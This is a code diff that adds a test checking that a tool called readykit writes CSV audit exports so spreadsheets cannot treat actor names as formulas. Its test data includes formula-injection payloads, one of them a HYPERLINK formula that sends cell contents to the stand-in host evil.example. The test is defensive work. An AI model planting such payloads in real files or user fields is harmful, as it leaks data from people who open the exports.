@@ -402,3 +402,32 @@ async def test_a_cache_that_never_hits_is_flagged(tmp_path: Path) -> None:
     assert flags == {"rates": 1.0, "fine": 0.0}
     page = await asgi_request(app, "GET", "/ops")
     assert page.body.count(b"never hits</span>") == 1
+
+
+async def test_csv_exports_never_hand_a_spreadsheet_a_formula(tmp_path: Path) -> None:
+    """An actor name (chosen at sign-up) or a path a stranger sent is a formula to a
+    spreadsheet that opens the export: every such cell is written as text, in the dashboard's
+    CSV and in `readykit audit export --format csv`."""
+    import csv as csvlib
+    import io
+
+    from click.testing import CliRunner
+
+    from readykit.cli import cli
+
+    formula = '=HYPERLINK("http://evil.example/"&E3,"Open")'
+    kit, app = make(tmp_path, ops_token=TOKEN)
+    async with lifespan(app):
+        for who in (formula, "+1-555", "@SUM(A1)", "user:1"):
+            await asgi_request(app, "POST", "/quotes", headers=[("X-User", who)])
+        await kit.records.writer.flush()  # type: ignore[union-attr]
+        page = await asgi_request(app, "GET", "/ops/api/audit", headers=BEARER,
+                                  query_string=b"format=csv")  # fmt: skip
+    argv = ["audit", "export", "--store", f"sqlite:///{tmp_path}/r.db", "--format", "csv"]
+    exported = await asyncio.to_thread(CliRunner().invoke, cli, argv)  # it runs its own loop
+    assert exported.exit_code == 0, exported.output
+    for text in (page.body.decode(), exported.output):
+        rows = list(csvlib.DictReader(io.StringIO(text)))
+        actors = sorted(row["actor"] for row in rows)
+        assert actors == sorted(["'" + formula, "'+1-555", "'@SUM(A1)", "user:1"])
+        assert not any(v.startswith(("=", "+", "-", "@")) for row in rows for v in row.values())
